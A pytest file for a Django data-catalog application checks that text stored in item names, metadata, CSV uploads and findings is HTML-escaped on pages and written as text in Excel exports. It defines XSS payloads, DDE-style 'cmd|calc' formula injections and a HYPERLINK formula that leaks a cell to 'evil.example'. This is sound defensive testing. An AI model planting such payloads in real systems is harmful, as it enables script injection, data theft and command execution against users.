"""User text is data, never markup or formulas.

Payloads are stored in every kind of text field: Template 1 item names, agency names, Template 2
values, Template 3 values, data-table disaggregation labels and notes, the key findings. Every
page then contains only their escaped forms (HTML-escaped in markup, \\u003c-escaped in chart
JSON), and every exported workbook holds formula-looking text as text, never as a formula.
Template 2/3 values are written straight into the database here: the forms refuse HTML, but data
that arrives another way (an old import, the admin) must still render safely.
"""
import io

import pytest
from openpyxl import load_workbook

from catalog.models import Agency, Item
from templates_app.models import MetadataRecord
from templates_app.services import metadata_save_draft
from tests.progress.factories import ResourceFactory
from tests.templates_app.factories import resource_values, valid_values
from tests.visualizations.conftest import csv_bytes

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PLUS = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
RAW = [SCRIPT, "<script>alert", "<img src=x", "onerror=alert(1)>"]  # never in a page as markup
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
# In chart JSON: HTML-escaped for plotly (whose labels are pseudo-HTML), then < > & escaped for the page.
JSON_SCRIPT = "\\u0026lt;script\\u0026gt;alert(1)\\u0026lt;\\u002fscript\\u0026gt;"
JSON_IMG = "\\u0026gt;\\u0026lt;img src=x"


@pytest.fixture
def poisoned(pattani_users, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    from visualizations.services import findings_update, table_version_upload

    agency = Agency.objects.get(code="PTN-AGRI")
    Agency.objects.filter(pk=agency.pk).update(name_th=f"สำนักงานเกษตร {IMG}", name_en=f"Agri {SCRIPT}",
                                               contact_name=FORMULA)
    item = Item.objects.get(issue__number=1, code="I1-005")
    Item.objects.filter(pk=item.pk).update(name_th=f"{SCRIPT} ทุเรียน", name_en=FORMULA)
    Item.objects.filter(issue__number=1, code="I1-006").update(name_th=FORMULA, unit=PLUS)
    staff = pattani_users["ptn-agri"]
    record = metadata_save_draft(item=item, values=valid_values(item.data_type), version=None, by=staff)
    values = {**record.values, "title": f"{SCRIPT} title", "notes": FORMULA, "maintainer": IMG,
              "data_source": PLUS, "tag_string": AT}
    MetadataRecord.objects.filter(pk=record.pk).update(values=values, status=MetadataRecord.Status.SUBMITTED,
                                                       review_comments={"title": SCRIPT})
    ResourceFactory(record=record, values=resource_values(item.data_type, resource_name=f"{SCRIPT} r",
                                                          description=FORMULA, format=IMG),
                    url="https://pattani.doae.go.th/x.csv", url_status="broken")
    table = csv_bytes([["2566", "9401", "10", SCRIPT], ["2566", "9401", "12", IMG], ["2566", "9402", "7", FORMULA]],
                      headers=("ช่วงเวลา", "พื้นที่", "ค่า", f"เพศ {SCRIPT}"))
    table_version_upload(item=item, content=table, filename=f"{SCRIPT}.csv", user=staff, note=f"{IMG} {FORMULA}")
    findings_update(issue=item.issue, text=f"- {SCRIPT}\n- **{IMG}**\n\n{FORMULA}",
                    user=pattani_users["nso-pattani"])
    return {"item": item, "record": MetadataRecord.objects.get(pk=record.pk), "agency": agency,
            "staff": staff, "office": pattani_users["nso-pattani"], "admin": pattani_users["admin"]}


def assert_escaped(html: str, url: str):
    for raw in RAW:
        assert raw not in html, f"{url} contains {raw!r} unescaped"


PUBLIC_PAGES = ["/", "/issues/1/", "/items/{item}/", "/viz/issues/1/", "/viz/issues/1/summary/", "/progress/"]
OFFICE_PAGES = ["/review/", "/items/{item}/metadata/review/", "/items/{item}/metadata/history/",
                "/items/{item}/resources/", "/links/", "/agencies/contacts/", "/agencies/contacts/PTN-AGRI/",
                "/progress/issues/1/", "/progress/items/?issue=1&agency=PTN-AGRI", "/progress/follow-up/PTN-AGRI/",
                "/progress/gdc/", "/viz/data/", "/viz/data/items/{item}/upload/", "/viz/issues/1/findings/",
                "/exchange/gdcatalog/"]
STAFF_PAGES = ["/my-work/", "/items/{item}/metadata/", "/items/{item}/resources/",
               "/items/{item}/resources/{resource}/", "/exchange/", "/viz/data/items/{item}/upload/"]


def visit(client, pages, poisoned):
    seen = {}
    for page in pages:
        url = page.format(item=poisoned["item"].pk, resource=poisoned["record"].resources.first().pk)
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert_escaped(html, url)
        seen[url] = html
    return seen


def test_public_pages_escape_every_payload(client, poisoned):
    seen = visit(client, PUBLIC_PAGES, poisoned)
    issue = seen["/issues/1/"]
    assert ESCAPED_SCRIPT in issue and "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in issue
    item = seen[f"/items/{poisoned['item'].pk}/"]
    assert ESCAPED_SCRIPT in item
    dashboard = seen["/viz/issues/1/"]
    assert ESCAPED_SCRIPT in dashboard  # the findings, as text
    assert JSON_SCRIPT in dashboard and JSON_IMG in dashboard  # the chart JSON (titles, sources, hover text)
    assert "<li>&lt;script&gt;" in dashboard or "&lt;script&gt;alert(1)&lt;/script&gt;</li>" in dashboard


def test_api_answers_are_json_that_a_browser_never_sniffs_as_html(client, poisoned):
    """The API returns the text as it is stored (a program's job to escape), as JSON the browser won't render."""
    client.force_login(poisoned["office"])
    for url in ("/api/v1/issues/1/items/", "/api/v1/datasets/?issue=1", "/api/v1/issues/"):
        response = client.get(url)
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"
        response.json()
    assert any(SCRIPT in row["name_th"] for row in client.get("/api/v1/issues/1/items/").json()["results"])


def test_office_pages_escape_every_payload(client, poisoned):
    client.force_login(poisoned["office"])
    seen = visit(client, OFFICE_PAGES, poisoned)
    review = seen[f"/items/{poisoned['item'].pk}/metadata/review/"]
    assert ESCAPED_SCRIPT in review and "&quot;&gt;&lt;img" in review
    assert ESCAPED_SCRIPT in seen[f"/items/{poisoned['item'].pk}/resources/"]
    assert "&quot;&gt;&lt;img" in seen["/agencies/contacts/"]
    assert ESCAPED_SCRIPT in seen["/progress/follow-up/PTN-AGRI/"]
    dashboard = seen["/progress/issues/1/"]
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in dashboard  # the agency row


def test_staff_pages_escape_every_payload(client, poisoned):
    client.force_login(poisoned["staff"])
    seen = visit(client, STAFF_PAGES, poisoned)
    form = seen[f"/items/{poisoned['item'].pk}/metadata/"]
    assert 'value="&lt;script&gt;alert(1)&lt;/script&gt; title"' in form
    assert ESCAPED_SCRIPT in seen[f"/viz/data/items/{poisoned['item'].pk}/upload/"]  # the file name and note


def test_admin_pages_escape_every_payload(client, poisoned):
    client.force_login(poisoned["admin"])
    visit(client, ["/admin/catalog/item/", f"/admin/catalog/item/{poisoned['item'].pk}/change/",
                   "/admin/catalog/agency/", "/admin/accounts/auditevent/"], poisoned)


def cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def assert_text_not_formula(data: bytes, name: str, expected=(FORMULA,)):
    found = set()
    for sheet, cell in cells(data):
        assert cell.data_type != "f", f"{name} {sheet}!{cell.coordinate} is a formula: {cell.value!r}"
        for payload in (FORMULA, PLUS, AT):
            if isinstance(cell.value, str) and payload in cell.value:
                assert cell.data_type == "s", (name, sheet, cell.coordinate)
                found.add(payload)
    assert set(expected) <= found, f"{name}: the payloads {set(expected) - found} were not exported at all"


def test_exports_write_formula_looking_text_as_text(client, poisoned):
    template1 = client.get("/issues/1/template1.xlsx")
    assert_text_not_formula(b"".join(template1), "template1.xlsx", expected=(FORMULA, PLUS))
    client.force_login(poisoned["office"])
    gdc = client.get(f"/exchange/gdcatalog.xlsx?issue={issue_pk()}")
    assert gdc.status_code == 200
    assert_text_not_formula(b"".join(gdc.streaming_content), "gdcatalog.xlsx", expected=(FORMULA, PLUS, AT))
    followup = client.get("/progress/follow-up/PTN-AGRI/follow-up.xlsx")
    assert_text_not_formula(b"".join(followup.streaming_content), "follow-up.xlsx", expected=(FORMULA,))
    client.force_login(poisoned["staff"])
    agency = client.get("/exchange/workbook.xlsx")
    assert_text_not_formula(b"".join(agency.streaming_content), "agency workbook", expected=(FORMULA, PLUS, AT))


def test_the_sample_csv_neutralises_formulas(client, poisoned):
    client.force_login(poisoned["staff"])
    text = b"".join(client.get(f"/viz/data/items/{poisoned['item'].pk}/sample.csv")).decode("utf-8-sig")
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")), line


def issue_pk(number=1):
    from catalog.models import DevelopmentIssue

    return DevelopmentIssue.objects.get(number=number).pk
